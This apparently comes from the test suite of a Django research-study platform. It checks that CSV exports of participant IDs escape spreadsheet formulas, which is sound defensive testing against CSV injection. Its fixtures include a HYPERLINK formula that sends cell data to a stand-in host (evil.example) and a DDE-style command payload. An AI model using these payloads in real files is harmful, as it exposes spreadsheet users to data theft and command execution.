"""CSV downloads of participant data never hand a spreadsheet a formula (CSV injection).

Participants choose their external id (PROLIFIC_PID, workerId … in the join link) and it is
stored as given: every CSV the admin or `export_responses` writes passes each cell through `spreadsheet_safe`."""

import csv
import io

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from experiments.export import response_rows, spreadsheet_safe
from experiments.models import Response, Study, Subject, new_token

from .factories import make_study
from .test_admin import act, answer_all, read_csv

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def test_strings_that_a_spreadsheet_would_run_get_a_quote_and_nothing_else_changes():
    # Also after leading blanks, and after a ";" or "," where a spreadsheet (German Excel:
    # ";") splits the cell: "x;=cmd" became a cell "=cmd".
    for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", FORMULA, " =1", "x;=cmd|'/C calc'!A0",
                  "y, -1+1", "a:error; @SUM(A1)"):  # fmt: skip
        assert spreadsheet_safe(value) == "'" + value
    for value in ("p-1", "abc", "", "'=1", "2024-01-01T00:00:00+00:00", "a:error;b:timeout"):
        assert spreadsheet_safe(value) == value
    for value in (-3, -2.5, 0, 7, None, True):
        assert spreadsheet_safe(value) is value  # numbers stay numbers, negative ones too


def test_the_sites_own_tokens_never_need_the_quote():
    """A link's token starting with "-" (1 in 64 by chance) would come quoted in the links'
    CSV, and the quoted token names no subject (a links test failed so, by chance)."""
    tokens = [new_token() for _ in range(5000)]
    assert all(spreadsheet_safe(token) == token for token in tokens)
    assert len({token[0] for token in tokens}) == 63  # every other character still starts one


def test_a_joined_subjects_external_id_is_no_formula_in_any_csv(admin_client):
    study = make_study(per_type=1, status=Study.Status.OPEN)
    joined = Client().get(reverse("join", args=[study.join_token]), {"PROLIFIC_PID": FORMULA})
    assert joined.status_code == 302
    subject = Subject.objects.get(study=study)
    assert subject.external_id == FORMULA  # stored as given
    answer_all(subject, 6)
    # A negative number the browser reported stays a number.
    Response.objects.filter(subject=subject).update(behaviour={"blur": -3, "first_play_ms": 12})

    links = read_csv(
        admin_client.get(reverse("admin:experiments_study_links_csv", args=[study.pk]))
    )
    assert [row["external_id"] for row in links] == ["'" + FORMULA]

    by_url = read_csv(
        admin_client.get(reverse("admin:experiments_study_responses", args=[study.pk]))
    )
    by_action = read_csv(act(admin_client, "export_responses", study))
    assert len(by_url) == len(by_action) == 6
    for row in by_url + by_action:
        assert row["external_id"] == "'" + FORMULA
        assert row["blur"] == "-3" and row["first_play_ms"] == "12"
        assert not any(cell.startswith(("=", "+", "@")) for cell in row.values())
    # The rows themselves (what JSON exports write) stay raw.
    assert {row["external_id"] for row in response_rows(study)} == {FORMULA}


def test_the_export_command_writes_no_formula_either():
    study = make_study(per_type=1, status=Study.Status.OPEN)
    Client().get(reverse("join", args=[study.join_token]), {"PROLIFIC_PID": FORMULA})
    answer_all(Subject.objects.get(study=study), 6)
    out = io.StringIO()
    call_command("export_responses", study.slug, "--format", "csv", stdout=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert len(rows) == 6 and {row["external_id"] for row in rows} == {"'" + FORMULA}
